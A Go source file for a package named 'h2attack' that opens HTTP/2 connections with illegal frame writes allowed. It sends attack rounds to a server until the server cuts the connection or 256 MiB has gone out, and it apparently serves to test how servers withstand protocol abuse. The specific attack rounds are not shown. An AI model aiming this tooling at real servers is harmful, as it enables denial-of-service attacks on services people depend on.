package h2attack

import (
	"bytes"
	"errors"
	"io"
	"net"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Attacker is a connection that attacks. What comes back is read and thrown away.
type Attacker struct {
	c    net.Conn
	fr   *http2.Framer
	out  bytes.Buffer // what is written next, at once
	enc  *hpack.Encoder
	hbuf bytes.Buffer
	next uint32
}

// Dial connects, says what a client says first and waits for the server's part of it, as clients do.
func Dial(addr string, settings []http2.Setting) (*Attacker, error) {
	c, err := net.Dial("tcp", addr)
	if err != nil {
		return nil, err
	}
	k := &Attacker{c: c, next: 1}
	k.fr = http2.NewFramer(&k.out, nil)
	k.fr.AllowIllegalWrites = true
	k.enc = hpack.NewEncoder(&k.hbuf)
	k.out.WriteString(http2.ClientPreface)
	k.fr.WriteSettings(settings...)
	c.SetDeadline(time.Now().Add(greeting))
	if _, err = k.out.WriteTo(c); err == nil {
		_, err = c.Read(make([]byte, 1))
	}
	if err != nil {
		c.Close()
		return nil, err
	}
	return k, nil
}

// greeting is how long a server may take to say its SETTINGS.
const greeting = 10 * time.Second

// Close gives the attack up.
func (k *Attacker) Close() { k.c.Close() }

// block encodes a request's fields, and more.
func (k *Attacker) block(path string, more ...string) []byte {
	k.hbuf.Reset()
	for _, f := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":authority", "h"}, {":path", path}} {
		k.enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	for i := 0; i < len(more); i += 2 {
		k.enc.WriteField(hpack.HeaderField{Name: more[i], Value: more[i+1]})
	}
	return bytes.Clone(k.hbuf.Bytes())
}

// open sends the head of a request and returns its stream.
func (k *Attacker) open(end bool, block []byte) uint32 {
	id := k.next
	k.next += 2
	k.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: end, EndHeaders: true})
	return id
}

// first opens stream 1, once, with a request that does not end; more of its head comes where more is set.
func (k *Attacker) first(more bool) {
	if k.next == 1 {
		k.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: k.block("/"), EndHeaders: !more})
		k.next = 3
	}
}

const (
	atOnce   = 16 << 10  // octets that are written in one call
	tooMuch  = 256 << 20 // octets after which nobody seems to mind
	dropping = 64 << 10
)

// ErrEndless says that an attack was let go on.
var ErrEndless = errors.New("it goes on for ever")

// Play attacks until the connection is cut, or the time is over, and returns how much was sent; cut tells the two apart.
func (a *Attack) Play(k *Attacker, until time.Time) (sent int64, cut bool, err error) {
	gone := make(chan error, 1)
	go func() {
		_, err := io.CopyBuffer(struct{ io.Writer }{io.Discard}, struct{ io.Reader }{k.c}, make([]byte, dropping))
		gone <- err
	}()
	k.c.SetDeadline(until)
	for rounds := 0; !a.Once || rounds == 0; rounds++ {
		a.round(k)
		if k.out.Len() < atOnce && !a.Once {
			continue
		}
		n, err := k.out.WriteTo(k.c)
		if sent += n; err != nil {
			break
		}
		if sent > tooMuch {
			k.c.Close()
			<-gone
			return sent, false, ErrEndless
		}
	}
	var late net.Error
	err = <-gone
	return sent, !(errors.As(err, &late) && late.Timeout()), nil
}
